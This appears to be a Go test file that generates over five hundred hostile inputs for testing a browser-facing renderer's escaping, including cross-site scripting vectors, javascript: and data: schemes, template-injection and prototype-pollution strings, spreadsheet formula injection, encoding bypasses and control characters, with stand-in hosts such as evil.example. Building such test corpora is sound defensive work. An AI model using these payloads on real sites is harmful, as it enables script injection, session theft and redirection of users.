package browser

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// payloads are what a stranger might call an article, an outlet or a side so
// that it runs, breaks out, loads something or turns the page around. Those
// that run call pwned with a number of their own.
func payloads() []string {
	var list []string
	add := func(texts ...string) {
		for _, text := range texts {
			list = append(list, strings.ReplaceAll(text, "RUN", fmt.Sprintf("pwned(%d)", len(list))))
		}
	}
	for _, closer := range closers {
		for _, runner := range runners {
			add(closer + runner)
		}
	}
	for _, breaker := range breakers {
		add(breaker+"onmouseover="+breaker+"RUN", breaker+" autofocus tabindex=1 onfocus="+breaker+"RUN x="+breaker, breaker+"style="+breaker+"background:url(https://style.example/x)")
	}
	for _, scheme := range schemes {
		add(scheme+"RUN", "https://example.org/"+scheme+"RUN", strings.ToUpper(scheme)+"RUN")
	}
	add(templates...)
	add(breaksJSON...)
	for _, text := range []string{`<script>RUN</script>`, `<img src=x onerror=RUN>`} {
		add(entities(text)...)
	}
	add(odd...)
	add("]]><script>RUN</script>", "</math><math><mtext><img src onerror=RUN></mtext></math>", "</bdi></span><embed src=//load.example/x.swf>", `\u003c/script\u003e<script>RUN</script>`, "'><marquee onstart=RUN>x</marquee>")
	for _, control := range controls {
		add("a"+control+"b <b onclick=RUN>", control+"قوات"+control, "https://example.org/"+control)
	}
	return list
}

// closers end what a text might stand in.
var closers = []string{
	"", `</script>`, `</SCRIPT >`, `</script/x>`, `"></script>`, `</style>`, `</title>`, `</textarea>`, `</noscript>`, `</template>`, `</select>`,
	`</svg>`, `</table>`, `-->`, `<!--`, `"}]}</script>`, `">`,
}

// runners run, load or lay something over the page.
var runners = []string{
	`<script>RUN</script>`, `<script src=//load.example/x.js></script>`, `<img src=x onerror=RUN>`, `<svg onload=RUN>`, `<svg><script>RUN</script></svg>`,
	`<iframe srcdoc="<script>parent.RUN</script>"></iframe>`, `<iframe src="javascript:parent.RUN">`, `<details open ontoggle=RUN>`, `<input autofocus onfocus=RUN>`,
	`<video><source onerror=RUN></video>`, `<object data="javascript:RUN">`,
	`<a href="javascript:RUN" style="position:fixed;inset:0">x</a>`, `<form action="javascript:RUN"><button>x`, `<meta http-equiv=refresh content="0;url=https://away.example/">`,
	`<base href=https://base.example/>`, `<link rel=stylesheet href=//load.example/x.css>`, `<style>@import url(//load.example/y.css);*{display:none}</style>`,
	`<body onload=RUN onpageshow=RUN>`, `<style>@keyframes x{}</style><p style="animation:x" onanimationstart=RUN>`,
}

// breakers leave an attribute.
var breakers = []string{`"`, `'`, "`", `" `, `' `, `"/`, `">`, `\"`, `&quot;`, `&#39;`, `%22`}

// schemes lead where no link of the page may.
var schemes = []string{
	"javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;", "javascript://%0a", "vbscript:", "data:text/html,<script>RUN</script>",
	"data:image/svg+xml,<svg onload=RUN>", "blob:", "file:///etc/passwd#", "//evil.example/", `\\evil.example\`, "https:evil.example?", "https://example.org@evil.example/", "feed:javascript:", "view-source:",
}

// templates are orders to engines of templates, of charts and of go-echarts.
var templates = []string{
	`{{.}}`, `{{.Study.Manifest}}`, `{{html "x"}}`, `{{constructor.constructor("RUN")()}}`, `{{"a".constructor.prototype.charAt=[].join;$eval("RUN")}}`, `${RUN}`, `#{RUN}`, `<%= RUN %>`, `<?php RUN ?>`, `{% raw %}`, `[[RUN]]`, `@{RUN}`,
	`__f__RUN__f__`, "__f__function(){RUN}__f__", `"__f__RUN__f__"`, `__x__RUN__x__`, `MY_ECHARTS`, `{"$fn":"tip"}`, `{"$fn":"constructor","of":["RUN"]}`, `{"$said":["a","b"]}`, `{"$line":[0,1]}`, `$fn`, `var(--ink)`, `var(--not-ours)`, `url(#hatch)`,
	`{a}{b}{c}{d}`, `{b|rich}`, `{@[0]}`, `{value}%`, `%s %d %v %!s(MISSING)`, `%s%s%s%s`, `{name|}`, `\n\\n`, `<b style="x">{a|b}</b>`,
}

// breaksJSON breaks what is no proper JSON, or poisons what is.
var breaksJSON = []string{
	`"`, `\`, `\"`, `\\"`, `"}],"x":[{"`, `'}]`, `null`, `true`, `[]`, `{}`, `{"deflate":"","size":1e9}`, `__proto__`, `constructor`, `prototype`, `toString`, `hasOwnProperty`, `valueOf`, `{"__proto__":{"polluted":1}}`,
	`\u003cscript\u003eRUN\u003c/script\u003e`, `\x3cscript\x3eRUN`, "</script", `<\/script>`, "line\u2028RUN\u2029end", "//\u2028RUN//", "*/RUN/*", "\r\nRUN\r\n", `");RUN;("`, `';RUN;'`, "`;RUN;`", `#evidence?text=<b>`, `?outlet=1&voice=`, `data-pick='{"outlet":0}'`,
}

// odd are names that are only strange.
var odd = []string{
	strings.Repeat("طويل جدا ", 150), strings.Repeat("A", 2000), strings.Repeat("<b>", 300), strings.Repeat("&amp;", 100), strings.Repeat("\u0301", 200) + "z", strings.Repeat("👩‍👩‍👧", 40), "e\u0301\u0323\u0327 Z͑ͫ̓ͪ̂ͫ̽a̴̵̜l̛g̡o͞", "ﷺ﷽", "١٢٣٤", "−0.42", "100%",
	"=1+RUN", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\xff\xfe not UTF-8 \xc0\xaf", "\xed\xa0\x80 half a pair", "\xf4\x90\x80\x80 beyond", "\uFFFE\uFFFF", "\uFEFFmark", "\u00ad\u200b\u2060", "*{display:none}", "background:url(https://style.example/y)", "expression(RUN)", "@import 'https://style.example/z'", "}</style><style>*{color:red", "*/body{display:none}/*",
}

// controls are characters that turn, end or hide text.
var controls = []string{
	"\x00", "\x01", "\b", "\t", "\v", "\f", "\r", "\x1b[31m", "\x7f", "\u0085", "\u200c", "\u200d", "\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u2028", "\u2029", "\ufeff", "\u3164", "\U000e0041",
}

// entities are a text in the ways that a browser may decode once too often.
func entities(text string) []string {
	every := func(format string) string {
		var b strings.Builder
		for _, r := range text {
			fmt.Fprintf(&b, format, r)
		}
		return b.String()
	}
	named := strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(text)
	return []string{named, strings.ReplaceAll(named, "&", "&amp;"), strings.NewReplacer("<", "&LT;", ">", "&GT;").Replace(text), strings.NewReplacer("<", "&#60", ">", "&#62").Replace(text),
		strings.NewReplacer("<", "%3C", ">", "%3E").Replace(text), strings.NewReplacer("<", "＜", ">", "＞").Replace(text), strings.NewReplacer("<", "\xc0\xbc").Replace(text), strings.NewReplacer("<", "+ADw-", ">", "+AD4-").Replace(text), every("&#%d;"), every("&#x%x;"), every(`\u%04x`)}
}

// Five hundred payloads, none twice.
func TestPayloadsAreMany(t *testing.T) {
	list := payloads()
	t.Logf("%d payloads", len(list))
	if n := len(list); n < 500 {
		t.Errorf("%d payloads, want 500", n)
	}
	slices.Sort(list)
	if all := len(list); len(slices.Compact(list)) != all {
		t.Error("a payload stands twice in the list")
	}
}
